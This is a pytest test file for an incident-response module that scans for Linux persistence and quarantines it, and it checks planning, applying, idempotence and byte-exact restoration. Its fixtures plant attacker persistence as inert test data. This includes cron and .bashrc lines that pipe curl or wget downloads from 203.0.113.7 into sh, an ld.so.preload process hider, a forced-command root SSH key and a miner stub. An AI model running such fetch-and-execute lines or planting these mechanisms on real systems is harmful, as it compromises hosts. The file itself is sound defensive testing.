"""The quarantine of what a scan found on a root planted like incident 4: planned in check mode, applied,
idempotent, undone byte for byte by its restore commands; files packages own never move."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
import subprocess
from pathlib import Path

import pytest
from ansible_collections.lifeline.rescue.plugins.module_utils.persistence import quarantine
from ansible_collections.lifeline.rescue.plugins.module_utils.persistence import (
    rules as persistence_rules,
)
from ansible_collections.lifeline.rescue.plugins.module_utils.persistence import scan as persistence

from support.planted import HIDDEN_JOB, KEY, STOCK_CRONTAB, SYSUPDATE, UNIT, Link, plant

pytest_plugins = ("support.planted_roots",)


INCIDENT = {
    "/etc/crontab": STOCK_CRONTAB.encode() + b"\0" * 512 + b"\n" + HIDDEN_JOB.encode(),
    "/usr/bin/.sysupdate": (SYSUPDATE, 0o755),
    "/etc/rc.local": ("#!/bin/sh -e\n/usr/bin/.sysupdate &\nexit 0\n", 0o755),
    "/etc/systemd/system/sysupdate.service": UNIT,
    "/etc/systemd/system/multi-user.target.wants/sysupdate.service": Link(
        "/etc/systemd/system/sysupdate.service"
    ),
    "/etc/cron.d/update": "*/10 * * * * root curl -fsSL http://203.0.113.7/ab.sh | sh\n",
    "/etc/ld.so.preload": "/usr/local/lib/libprocesshider.so\n",
    "/usr/local/lib/libprocesshider.so": (b"\x7fELF\x02\x01\x01", 0o644),
    "/root/.ssh/authorized_keys": (f'{KEY} admin\ncommand="/tmp/.x/run" {KEY} x\n', 0o600),
    "/tmp/kdevtmpfsi": (b"\x7fELF miner", 0o755),
    "/home/alice/.configrc/a/upd": ("#!/bin/sh\n", 0o755, 1000),
}
MOVED = {
    "/etc/systemd/system/sysupdate.service",
    "/etc/systemd/system/multi-user.target.wants/sysupdate.service",
    "/usr/bin/.sysupdate",
    "/etc/cron.d/update",
    "/usr/local/lib/libprocesshider.so",
    "/tmp/kdevtmpfsi",
    "/home/alice/.configrc",
}
COMMENTED = {
    ("/etc/crontab", 6, ("exec-hidden-path", "frequent-unpackaged-job")),
    ("/etc/rc.local", 2, ("exec-hidden-path",)),
    ("/etc/ld.so.preload", 1, ("ld-so-preload",)),
    ("/root/.ssh/authorized_keys", 2, ("exec-temp-dir", "exec-hidden-path")),
}


@pytest.fixture
def incident(base) -> Path:
    for path, spec in INCIDENT.items():
        plant(base, path, *(spec if isinstance(spec, tuple) else (spec,)))
    os.utime(base / "usr/bin/.sysupdate", (1700000000, 1700000000))
    return base


def snapshot(root: Path) -> dict[str, tuple]:
    """Every entry of the root: type and permissions, owner, times of files, link target, sha256."""
    found = {}
    for top, dirs, names in os.walk(root):
        for name in dirs + names:
            path = os.path.join(top, name)
            st = os.lstat(path)
            if stat.S_ISLNK(st.st_mode):
                detail = os.readlink(path)
            elif stat.S_ISREG(st.st_mode):
                detail = hashlib.sha256(Path(path).read_bytes()).hexdigest()
            else:
                detail = ""
            mtime = st.st_mtime_ns if not stat.S_ISDIR(st.st_mode) else 0
            found["/" + os.path.relpath(path, root)] = (st.st_mode, st.st_uid, st.st_gid, mtime, detail)
    return found


def test_check_mode_plans_and_changes_nothing(incident, rules):
    before = snapshot(incident)
    result = persistence.scan(str(incident), rules)
    actions = quarantine.plan(result, stamp="20250101T000000Z")

    assert snapshot(incident) == before
    assert {a.path for a in actions if a.action == "move"} == MOVED
    commented = {(a.path, a.line, tuple(a.rules)) for a in actions if a.action == "comment"}
    assert commented == COMMENTED
    assert [a for a in actions if a.action == "manual"] == []
    unit = next(a for a in actions if a.path == "/etc/systemd/system/sysupdate.service")
    assert (
        unit.destination
        == "/var/lib/lifeline/quarantine/20250101T000000Z/etc/systemd/system/sysupdate.service"
    )
    assert unit.before.startswith("/etc/systemd/system/sysupdate.service (file, 0644 root:root, sha256 ")
    line = next(a for a in actions if a.path == "/etc/rc.local")
    assert (line.before, line.after) == (
        "/usr/bin/.sysupdate &",
        "#lifeline-quarantine(exec-hidden-path) /usr/bin/.sysupdate &",
    )
    assert not any(a.applied for a in actions)


def test_quarantine_comments_lines_moves_files_and_deletes_nothing(incident, rules):
    before = snapshot(incident)
    originals = {
        p: (incident / p.lstrip("/")).read_bytes() for p in INCIDENT if not isinstance(INCIDENT[p], Link)
    }
    result = persistence.scan(str(incident), rules)
    actions = quarantine.plan(result, stamp="20250101T000000Z")

    quarantine.apply(result, actions, "/var/backups/lifeline", stamp="20250101T000000Z")

    assert [a.error for a in actions if a.error] == []
    assert all(a.applied for a in actions)
    quarantine_dir = incident / "var/lib/lifeline/quarantine/20250101T000000Z"
    for path in MOVED:
        assert not os.path.lexists(incident / path.lstrip("/")), path
        moved = quarantine_dir / path.lstrip("/")
        assert os.path.lexists(moved), path
        record = json.loads(Path(f"{moved}.lifeline.json").read_text())
        assert record["original_path"] == path
        assert record["quarantined_path"] == "/" + str(moved.relative_to(incident))
        assert (record["uid"], record["gid"], record["mode"]) == (
            before[path][1],
            before[path][2],
            f"{stat.S_IMODE(before[path][0]):04o}",
        )
        assert set(record) >= {
            "owner",
            "mtime",
            "ctime",
            "sha256",
            "rules",
            "restore",
            "restore_host",
            "reason",
        }
        if path in originals:
            assert moved.read_bytes() == originals[path]
            assert record["sha256"] == hashlib.sha256(originals[path]).hexdigest()
            assert os.lstat(moved).st_mtime_ns == before[path][3]
    link = quarantine_dir / "etc/systemd/system/multi-user.target.wants/sysupdate.service"
    assert os.readlink(link) == "/etc/systemd/system/sysupdate.service"
    for path, line, ids in COMMENTED:
        lines = (incident / path.lstrip("/")).read_bytes().split(b"\n")
        original = originals[path].split(b"\n")
        marker = f"#lifeline-quarantine({','.join(ids)}) ".encode()
        assert lines == [*original[: line - 1], marker + original[line - 1], *original[line:]]
        backup = incident / "var/backups/lifeline/20250101T000000Z" / path.lstrip("/")
        assert backup.read_bytes() == originals[path]
        assert os.lstat(incident / path.lstrip("/")).st_mode == before[path][0]
    # Nothing else changed: every other entry is as it was.
    after = snapshot(incident)
    changed = MOVED | {p for p, _, _ in COMMENTED}
    untouched = {p for p in before if not any(p == c or p.startswith(c + "/") for c in changed)}
    assert {p: after.get(p) for p in untouched} == {p: before[p] for p in untouched}
    for path in before.keys() - untouched - {p for p, _, _ in COMMENTED}:
        assert after[f"/var/lib/lifeline/quarantine/20250101T000000Z{path}"] == before[path]


def test_second_run_finds_nothing_to_do_and_reports_the_quarantine(incident, rules):
    first = persistence.scan(str(incident), rules)
    quarantine.apply(
        first, quarantine.plan(first, stamp="20250101T000000Z"), "/var/backups/lifeline", "20250101T000000Z"
    )
    before = snapshot(incident)

    again = persistence.scan(str(incident), rules)
    actions = quarantine.plan(again, stamp="20250101T000001Z")

    # Left: the plain root key, which a rule lists for review and never quarantines.
    assert [(f["rule"], f["path"], f["line"]) for f in again.finding_dicts() if f["severity"] != "info"] == [
        ("authorized-key-root", "/root/.ssh/authorized_keys", 1)
    ]
    assert actions == []
    held = again.already_quarantined
    assert {(h["path"], h["line"], tuple(h["rules"])) for h in held if h["kind"] == "line"} == COMMENTED
    files = {h["path"]: h for h in held if h["kind"] == "file"}
    assert set(files) == MOVED
    assert all(h["present"] and h["quarantined_at"].endswith("Z") for h in files.values())
    assert snapshot(incident) == before


def test_restore_commands_put_everything_back_byte_for_byte(incident, rules):
    before = snapshot(incident)
    result = persistence.scan(str(incident), rules)
    actions = quarantine.plan(result, stamp="20250101T000000Z")
    quarantine.apply(result, actions, "/var/backups/lifeline", stamp="20250101T000000Z")

    for action in actions:
        subprocess.run(["sh", "-c", action.restore_host], check=True)
    moves = [a for a in actions if a.action == "move"]
    for action in moves:  # a second restore refuses: it never replaces what is there now
        assert subprocess.run(["sh", "-c", action.restore_host], capture_output=True).returncode != 0

    after = snapshot(incident)
    # A line put back rewrites its file: all but its modification time is as it was.
    for path, _, _ in COMMENTED:
        before[path] = before[path][:3] + before[path][4:]
        after[path] = after[path][:3] + after[path][4:]
    assert {p: after.get(p) for p in before} == before
    assert (incident / "usr/bin/.sysupdate").stat().st_mtime == 1700000000


def test_a_file_changed_after_the_scan_is_left_alone(incident, rules):
    result = persistence.scan(str(incident), rules)
    actions = quarantine.plan(result, stamp="20250101T000000Z")
    (incident / "etc/rc.local").write_text("#!/bin/sh\n/usr/bin/.sysupdate &\necho changed\n")
    os.utime(incident / "usr/bin/.sysupdate", (1, 1))

    quarantine.apply(result, actions, "/var/backups/lifeline", stamp="20250101T000000Z")

    rc_local = next(a for a in actions if a.path == "/etc/rc.local")
    assert not rc_local.applied
    assert "changed while it was being repaired" in rc_local.error
    payload = next(a for a in actions if a.path == "/usr/bin/.sysupdate")
    assert (payload.applied, payload.error) == (
        False,
        "/usr/bin/.sysupdate changed since it was scanned; not moved: run again",
    )
    assert (incident / "etc/rc.local").read_text().endswith("echo changed\n")
    assert (incident / "usr/bin/.sysupdate").read_bytes() == SYSUPDATE


def test_package_owned_startup_files_are_never_moved(base, rules):
    """A packaged unit edited to run a planted program: reported, the action says what to do."""
    unit = base / "usr/lib/systemd/system/cron.service"
    plant(
        base,
        "/usr/lib/systemd/system/cron.service",
        "[Service]\nExecStart=/usr/sbin/cron -f\nExecStartPost=/dev/shm/.x/m\n",
    )

    result = persistence.scan(str(base), rules)
    actions = quarantine.plan(result, stamp="20250101T000000Z")

    assert [(a.action, a.path) for a in actions] == [("manual", "/usr/lib/systemd/system/cron.service")]
    assert actions[0].reason.startswith(
        "owned by package cron: reinstall it (apt-get install --reinstall cron)"
    )
    quarantine.apply(result, actions, "/var/backups/lifeline")
    assert unit.exists()


def test_a_move_across_filesystems_copies_verifies_and_keeps_owner_mode_and_time(incident, rules):
    """On a live host /tmp and /dev/shm are often tmpfs: rename(2) fails, the file is copied over."""
    tmp = incident / "tmp"
    miner = (tmp / "kdevtmpfsi").read_bytes()
    shutil.rmtree(tmp)
    tmp.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8m", "lifeline-test", str(tmp)], check=True)
    try:
        plant(incident, "/tmp/kdevtmpfsi", miner, 0o4755, 1001)
        os.utime(tmp / "kdevtmpfsi", (1600000000, 1600000000))
        result = persistence.scan(str(incident), rules)
        actions = [a for a in quarantine.plan(result, stamp="S") if a.path == "/tmp/kdevtmpfsi"]

        quarantine.apply(result, actions, "/var/backups/lifeline", "S")

        assert (actions[0].applied, actions[0].error) == (True, "")
        moved = incident / "var/lib/lifeline/quarantine/S/tmp/kdevtmpfsi"
        st = os.lstat(moved)
        assert (moved.read_bytes(), st.st_uid, stat.S_IMODE(st.st_mode), st.st_mtime) == (
            miner,
            1001,
            0o4755,
            1600000000,
        )
        assert not (tmp / "kdevtmpfsi").exists()
    finally:
        subprocess.run(["umount", str(tmp)], check=True)


def test_what_moves_with_an_init_script_and_what_never_moves(base, rules):
    plant(base, "/etc/init.d/sysupdate", "#!/bin/sh\n/usr/bin/.sysupdate &\n", 0o755)
    plant(base, "/etc/rc2.d/S01sysupdate", Link("../init.d/sysupdate"))
    plant(base, "/etc/rc2.d/S01cron", Link("../init.d/cron"))
    plant(base, "/usr/bin/.sysupdate", SYSUPDATE, 0o755)
    # Only one of two jobs is flagged: the file stays, the line is commented out.
    plant(base, "/etc/cron.d/mixed", "0 4 * * * root /usr/bin/true\n*/1 * * * * root /dev/shm/.x/m\n")
    # A locally built interpreter, or a program found in PATH, named by a flagged line is not the malware.
    plant(base, "/usr/local/bin/python3", "#!/bin/sh\n", 0o755)
    plant(base, "/usr/local/bin/sync-tool", "#!/bin/sh\n", 0o755)
    plant(
        base,
        "/root/.bashrc",
        "python3 -c 'import socket;s=socket.socket();s.connect((\"h\",1))'\n"
        "sync-tool --quiet; wget -qO- http://203.0.113.7/x | sh\n",
    )
    # An indicator rule naming a whole top-level directory must not move it.
    plant(base, "/opt/app/run", "#!/bin/sh\n", 0o755)
    own = [
        {
            "id": "opt",
            "description": "All of /opt",
            "severity": "high",
            "match": {"indicator_paths": ["/opt"]},
        }
    ]
    rules = [*rules, *persistence_rules.load_rules(own)]

    result = persistence.scan(str(base), rules)
    actions = {(a.action, a.path) for a in quarantine.plan(result, stamp="S")}

    assert actions == {
        ("move", "/etc/init.d/sysupdate"),
        ("move", "/etc/rc2.d/S01sysupdate"),
        ("move", "/usr/bin/.sysupdate"),
        ("comment", "/etc/cron.d/mixed"),
        ("comment", "/root/.bashrc"),
        ("manual", "/opt"),
    }


def test_a_payload_inside_a_quarantined_directory_moves_with_it(base, rules):
    """The Outlaw kit's layout: alice's crontab runs ~/.configrc/a/upd, an indicator directory."""
    plant(base, "/home/alice/.configrc/a/upd", "#!/bin/sh\n", 0o755, 1000)
    crontab = "@reboot /home/alice/.configrc/a/upd>/dev/null 2>&1\n"
    plant(base, "/var/spool/cron/crontabs/alice", crontab, 0o600, 1000)

    result = persistence.scan(str(base), rules)
    actions = quarantine.plan(result, stamp="S")
    quarantine.apply(result, actions, "/var/backups/lifeline", "S")

    assert [(a.action, a.path, a.applied, a.error) for a in actions] == [
        ("comment", "/var/spool/cron/crontabs/alice", True, ""),
        ("move", "/home/alice/.configrc", True, ""),
    ]
    assert (base / "var/lib/lifeline/quarantine/S/home/alice/.configrc/a/upd").read_text() == "#!/bin/sh\n"
